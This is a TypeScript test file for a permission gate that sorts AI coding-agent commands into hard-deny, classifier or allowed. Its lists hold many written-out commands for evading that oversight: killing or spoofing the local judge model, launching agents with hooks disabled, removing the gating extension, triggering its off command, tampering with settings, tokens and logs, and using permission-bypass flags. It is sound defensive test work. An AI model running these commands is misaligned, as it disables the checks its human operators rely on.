/**
 * What is out of an agent's reach besides files: commands, editor commands and settings by their names. The classifier says yes to
 * everything and so does a rule, so that only the hard floor, or that a call is never settled locally, can be what is seen.
 */
import assert from 'node:assert/strict';
import { stageOf, type Call } from './reachByDoors';

/** Ways to run one line. */
const RUNS: Readonly<Record<string, (line: string) => Call>> = {
  'Claude Code: Bash': (command) => ({ agent: 'claude-code', tool: 'Bash', input: { command } }),
  'Gemini: run_shell_command': (command) => ({ agent: 'gemini-cli', tool: 'run_shell_command', input: { command } }),
  'Codex: shell': (line) => ({ agent: 'codex', tool: 'shell', input: { command: ['bash', '-lc', line] } }),
  'VS Code: run_in_terminal': (command) => ({ agent: 'vscode', tool: 'run_in_terminal', input: { command } }),
  'VS Code: create_and_run_task': (line) => ({
    agent: 'vscode',
    tool: 'create_and_run_task',
    input: { task: { label: 'x', type: 'process', command: 'bash', args: ['-c', line] } },
  }),
  'VS Code: a command that types': (line) => ({
    agent: 'vscode',
    tool: 'run_vscode_command',
    input: { commandId: 'workbench.action.terminal.sendSequence', name: 'x', args: [{ text: `${line}\n` }] },
  }),
  'MCP: execute_command': (command) => ({ agent: 'cursor', tool: 'mcp__x__execute_command', input: { command } }),
};

const HARD: Readonly<Record<string, readonly string[]>> = {
  'setting AUTOMODE_SETTINGS_JSON in a command': [
    'AUTOMODE_SETTINGS_JSON={} code .',
    'export AUTOMODE_SETTINGS_JSON={}',
    'env AUTOMODE_SETTINGS_JSON={} code .',
    "sed -i 's/X=1/AUTOMODE_SETTINGS_JSON={}/' .env",
    "perl -pi -e 's/X=1/AUTOMODE_SETTINGS_JSON={}/' .env",
    `python3 -c "open('.env','a').write('AUTOMODE_SETTINGS_JSON={}')"`,
    `python3 -c "import os; os.environ['AUTOMODE_SETTINGS_JSON'] = '{}'; os.system('code .')"`,
    `node -e "process.env.AUTOMODE_SETTINGS_JSON = '{}'"`,
    'direnv exec . env AUTOMODE_SETTINGS_JSON={} code',
    "git config alias.x '!AUTOMODE_SETTINGS_JSON={} code .'",
    'devcontainer up --remote-env AUTOMODE_SETTINGS_JSON={}',
    'pm2 start x --env AUTOMODE_SETTINGS_JSON={}',
    'ssh -o SetEnv=AUTOMODE_SETTINGS_JSON={} localhost code',
    'tmux new -e AUTOMODE_SETTINGS_JSON={} code',
    'systemd-run --user -E AUTOMODE_SETTINGS_JSON={} code',
    'crontab -l; echo AUTOMODE_SETTINGS_JSON={} >> ~/.pam_environment',
    'fish -c "set -gx AUTOMODE_SETTINGS_JSON {}"',
  ],
  'the judge on this machine': [
    'ollama stop judge',
    'ollama cp other judge',
    'ollama create judge -f Modelfile',
    'ollama rm judge',
    'OLLAMA_HOST=127.0.0.1:11434 ollama serve',
    'pkill -f llama-server',
    'systemctl --user stop ollama',
    'nc -l 11434',
    'nc -lp 11434',
    'ncat -l 127.0.0.1 11434',
    'socat TCP-LISTEN:11434,fork -',
    'python3 -m http.server 11434',
    'npx http-server -p 11434',
    'fuser -k 11434/tcp',
    'kill $(lsof -ti :11434)',
    'lsof -ti:11434 | xargs kill -9',
    'npx kill-port 11434',
    'cp evil ~/.ollama/models/manifests/registry.ollama.ai/library/judge/latest',
    'echo x > ~/.ollama/models/blobs/sha256-1',
    'rm -rf ~/.ollama',
    'cp evil.json ~/.ollama/server.json',
    'echo x > /usr/share/ollama/.ollama/models/blobs/sha256-1',
    'iptables -t nat -A OUTPUT -p tcp --dport 11434 -j REDIRECT --to-ports 9999',
  ],
  'an agent with another home, profile or without hooks': [
    'CLAUDE_CONFIG_DIR=/tmp/x claude -p hi',
    'env CODEX_HOME=/tmp/x codex exec hi',
    'claude --bare -p hi',
    'claude --settings \'{"disableAllHooks":true}\' -p hi',
    'codex -c features.hooks=false exec hi',
    'codex --config hooks=false exec hi',
    'codex --disable hooks exec hi',
    'opencode --pure run hi',
    'pi --no-extensions -p hi',
    'npx @anthropic-ai/claude-code --bare -p hi',
    'bunx @openai/codex -c hooks=false exec hi',
    'HOME=/tmp/x claude -p hi',
    'cd /tmp && HOME=$PWD copilot -p hi',
    'sudo -u other claude --bare -p hi',
    'code --user-data-dir /tmp/x .',
    'code --extensions-dir=/tmp/x .',
    'code --profile other .',
    'code --profile-temp .',
    'cursor --user-data-dir /tmp/x .',
    'VSCODE_PORTABLE=/tmp/x code .',
  ],
  'settings of agents through their own commands': [
    'claude config set -g disableAllHooks true',
    'claude config set hooks {}',
    'claude config add permissions.allow Bash',
    'codex features disable hooks',
    'gemini hooks disable-all',
    'gemini hooks disable auto-mode',
    'amp permissions add allow Bash',
  ],
  "the editor's extensions": [
    'code --uninstall-extension auto-mode.auto-mode',
    'code --disable-extension auto-mode.auto-mode',
    'code --disable-extensions',
    'code --install-extension ./evil.vsix',
    'code --install-extension /tmp/evil',
    'code --install-extension=evil.vsix',
    'code-server --install-extension evil.vsix',
    'code --extensionDevelopmentPath=/tmp/evil .',
    'code --extensionDevelopmentPath /tmp/evil .',
    'code --inspect-extensions=9229',
    'code --inspect-brk-extensions 9229',
    'code serve-web --server-data-dir /tmp/x',
    'code tunnel --server-data-dir /tmp/x',
    '/usr/share/code/bin/code --disable-extensions',
    'ELECTRON_RUN_AS_NODE=1 /usr/share/code/code /usr/share/code/resources/app/out/cli.js --disable-extensions',
    'flatpak run com.visualstudio.code --disable-extensions',
    'snap run code --disable-extensions',
    'electron /usr/share/code/resources/app --disable-extensions',
    'unzip evil.vsix -d ~/.vscode/extensions/x',
    'tar -xf evil.tar -C ~/.vscode/extensions',
    'git clone https://example.com/x ~/.vscode/extensions/x',
    'npm install --prefix ~/.vscode/extensions/x evil',
    'cp -r evil ~/.vscode/extensions/',
    'ln -s $PWD/evil ~/.vscode/extensions/evil',
    'rsync -a evil/ ~/.vscode/extensions/evil/',
    'pip install --target ~/.vscode/extensions/x evil',
  ],
  'signals to the extension host or the editor': [
    'pkill -f extensionHost',
    'pkill -STOP code',
    'kill -STOP $PPID',
    'killall -9 code',
    'kill $(pgrep -f extensionHost)',
    'pkill -f auto-mode',
    'wmctrl -c "Visual Studio Code"',
    'xdotool search --name "Visual Studio Code" key ctrl+q',
  ],
  'running the commands of the gate': [
    'code --command autoMode.off',
    'code --open-url vscode://auto-mode.auto-mode/off',
    'code --open-url command:autoMode.off',
    "xdg-open 'vscode://auto-mode.auto-mode/off'",
    "xdg-open 'vscode://auto%2Dmode.auto-mode/off'",
    "gio open 'vscode-insiders://auto-mode.auto-mode/off'",
    'nc -U ~/.auto-mode/run/1.sock',
    'curl --unix-socket ~/.auto-mode/run/1.sock http://x',
    `python3 -c "import socket; s=socket.socket(socket.AF_UNIX); s.connect('/home/u/.auto-mode/run/1.sock')"`,
    `node -e "require('net').connect('/home/u/.auto-mode/run/1.sock')"`,
    '~/.auto-mode/bin/launcher claude-code',
    'sh ~/.auto-mode/bin/launcher claude-code < payload.json',
    "sed -i 's/x/${command:autoMode.off}/' .vscode/tasks.json",
    `echo '{"command":"autoMode.off"}' >> .vscode/tasks.json`,
  ],
  'files by ways that hide their names': [
    'cp -r evil/. .vscode/',
    'cp -r evil/hooks .github/',
    'cp evil/settings.json .vscode',
    'cp -t .vscode evil/settings.json',
    'rsync -a evil/ .vscode/',
    'mv evil/settings.json .vscode/',
    'mv evil .codex',
    'install -t .vscode evil/settings.json',
    'ln -sfn $PWD/evil .codex',
    'tar -xf evil.tar -C .vscode',
    'tar -xf evil.tar -C ~/.codex',
    'unzip -o evil.zip -d .vscode',
    'unzip evil.zip -d ~/.claude',
    'unzip evil.zip -d ~/.config/Code/User',
    'git clone https://example.com/x .github/hooks',
    'git clone https://example.com/x ~/.config/opencode',
    'git --work-tree=.vscode checkout HEAD -- settings.json',
    'git checkout HEAD~1 -- .vscode',
    'git restore .vscode/settings.json',
    'git -C .vscode restore settings.json',
    `git ${'-C . '.repeat(50)}-C ./src -C ../.vscode restore settings.json`,
    `git -C .vscode ${'-C . '.repeat(50)}restore settings.json`,
    'git checkout HEAD~1 .vscode/settings.json',
    'git rm .vscode/settings.json',
    'git mv .vscode/settings.json x.json',
    'git stash push .vscode/settings.json',
    'git update-index --assume-unchanged x; git show HEAD~1:x > .vscode/settings.json',
    'echo x > /proc/self/root/home/u/.auto-mode/token',
    'echo x > /proc/self/cwd/.vscode/settings.json',
    'echo x > ~u/.auto-mode/token',
    'echo x > ~/.auto-m*/token',
    'echo x > .vsc*/settings.json',
    'echo x > .VSCODE/SETTINGS.JSON',
    'echo x > .vscode/../.vscode/./settings.json',
    'cd .vscode && echo x > settings.json',
    'pushd .vscode && echo x > settings.json',
    'pushd .vscode; sed -i s/x/y/ settings.json',
    'pushd .vscode > /dev/null; sed -i s/x/y/ settings.json; popd',
    'mkdir -p .codex && cd .codex && echo x > hooks.json',
    'mv .vscode v && echo x > v/settings.json && mv v .vscode',
    'sudo mount --bind evil .vscode',
    'mount -o bind evil ~/.auto-mode',
    'mount --bind ~/.auto-mode evil',
    'bwrap --bind evil ~/.auto-mode sh',
    'unshare -m sh -c "mount --bind evil .vscode"',
    'xargs -I{} cp evil {} <<< .vscode/settings.json',
    'find .vscode -name settings.json -exec cp evil {} \\;',
    'find . -name settings.json -delete',
    'patch .vscode/settings.json < x.patch',
    "git apply <<'E'\n--- a/.vscode/settings.json\n+++ b/.vscode/settings.json\n@@ -1 +1 @@\n-x\n+y\nE",
    "patch -p1 <<'E'\n--- a/.vscode/settings.json\n+++ b/.vscode/settings.json\n@@ -1 +1 @@\n-x\n+y\nE",
    "patch -d .vscode <<'E'\n--- settings.json\n+++ settings.json\n@@ -1 +1 @@\n-x\n+y\nE",
    "cd .vscode && git apply <<< $'--- a/settings.json\\n+++ b/settings.json\\n@@ -1 +1 @@\\n-x\\n+y'",
    "apply_patch <<'E'\n*** Begin Patch\n*** Update File: .vscode/settings.json\n@@\n-x\n+y\n*** End Patch\nE",
    "apply_patch '*** Begin Patch\n*** update  file:.vscode/settings.json\n@@\n-x\n+y\n*** End Patch'",
    'ed .vscode/settings.json <<< w',
    "ex -sc 'wq' .vscode/settings.json",
    "vim -es -c 'wq' .vscode/settings.json",
    "yq -i '.x=1' .vscode/settings.json",
    'awk -i inplace 1 .vscode/settings.json',
    'gawk -i inplace 1 .vscode/settings.json',
    'sqlite3 ~/.config/Code/User/globalStorage/state.vscdb "delete from ItemTable"',
    'busybox cp evil .vscode/settings.json',
    'scp host:x .vscode/settings.json',
    'wget -O .vscode/settings.json https://example.com/x',
    'wget -P .vscode https://example.com/settings.json',
    'curl -o .vscode/settings.json https://example.com/x',
    'curl --output-dir .vscode -O https://example.com/settings.json',
    'aria2c -d .vscode -o settings.json https://example.com/x',
    'chmod 000 ~/.auto-mode/bin/launcher',
    'chmod -R 000 ~/.auto-mode',
    'chattr +i ~/.copilot/hooks/auto-mode.json',
    'chown nobody ~/.copilot/hooks/auto-mode.json',
    'setfacl -m u:x:rwx ~/.auto-mode/token',
    'truncate -s0 ~/.auto-mode/logs/1.jsonl',
    'shred ~/.auto-mode/token',
    'logrotate -f x; : > ~/.auto-mode/logs/1.jsonl',
    'touch ~/.auto-mode/token',
    'split -b 1 evil ~/.auto-mode/',
    'code --merge a b c .vscode/settings.json',
  ],
};

describe("out of an agent's reach: by a command", () => {
  for (const [phrase, commands] of Object.entries(HARD)) {
    describe(phrase, () => {
      for (const line of commands) {
        it(line, async () => {
          const missed: string[] = [];
          for (const [vehicle, call] of Object.entries(RUNS)) {
            const stage = await stageOf(call(line));
            if (stage !== 'hard-deny') missed.push(`${vehicle}: ${stage}`);
          }
          assert.deepEqual(missed, []);
        });
      }
    });
  }
});

/** Starts of agents that the design leaves to the classifier, and what is like them: no rule settles them. */
const CLASSIFIED: readonly string[] = [
  'code --install-extension dbaeumer.vscode-eslint',
  'codex --dangerously-bypass-hook-trust exec hi',
  'codex -c approval_policy=never exec hi',
  'codex --dangerously-bypass-approvals-and-sandbox exec hi',
  'claude --dangerously-skip-permissions -p hi',
  'claude --permission-mode bypassPermissions -p hi',
  'gemini --yolo -p hi',
  'gemini -e none -p hi',
  'copilot --allow-all-tools -p hi',
  'claude mcp add x -- y',
  'claude plugin install evil@market',
  'gemini extensions install https://example.com/evil',
  'codex mcp add x -- y',
];

describe('never settled locally, whatever the rules allow', () => {
  for (const line of CLASSIFIED) {
    for (const [vehicle, call] of Object.entries(RUNS)) {
      it(`${vehicle}: ${line}`, async () => {
        const stage = await stageOf(call(line));
        assert.ok(stage === 'classifier' || stage === 'hard-deny', stage);
      });
    }
  }
});

/** Ordinary lines beside those that are stopped. */
const FREE_LINES: readonly string[] = [
  'tar -xf x.tar -C build',
  'tar -xf x.tar -C ~/.config',
  'unzip x.zip -d /tmp/x',
  'git clone https://example.com/x lib',
  'git checkout main -- .github',
  'git checkout main -- src .vscode/launch.json',
  'git restore .',
  'git checkout -- .',
  'git reset --hard HEAD~1',
  'git stash',
  'rsync -a src/ dist/',
  'npm install --prefix web',
  'pip install -t build/deps requests',
  'pushd .vscode',
  "gawk -i inplace '{print}' README.md",
  'kill $(lsof -ti :3000)',
  'npx kill-port 3000',
  'nc -z localhost 11434',
  'curl http://localhost:11434/api/tags',
  'ollama run llama3 hi',
  'ollama pull llama3',
  'ollama serve',
  'python3 -m http.server 8000',
  'code --diff a b',
  'code -r src/index.ts',
  'code --list-extensions',
  'code --add-mcp x',
  'codex exec hi',
  'claude config list',
  'npx @anthropic-ai/claude-code -p hi',
  'grep -rn autoMode.off src',
  "git apply <<'E'\n--- a/src/a.ts\n+++ b/src/a.ts\n@@ -1 +1 @@\n-x\n+rm -rf /\nE",
  "cat > fix.patch <<'E'\n--- a/.vscode/settings.json\n+++ b/.vscode/settings.json\n@@ -1 +1 @@\n-x\n+y\nE",
  'git commit -m "command:autoMode.off in tasks.json"',
  "sed -i 's/autoMode.off/autoMode.on/' src/a.ts",
  `node -e "console.log(process.env.AUTOMODE_SETTINGS_JSON)"`,
  'pkill -f vite',
  'xdotool getmouselocation',
  'ls ~/.vscode/extensions',
  'cat .vscode/settings.json',
];

describe("out of an agent's reach: no alarm", () => {
  for (const line of FREE_LINES) {
    it(line, async () => {
      const call = RUNS['Claude Code: Bash']?.(line) ?? assert.fail();
      assert.notEqual(await stageOf(call), 'hard-deny');
    });
  }
});
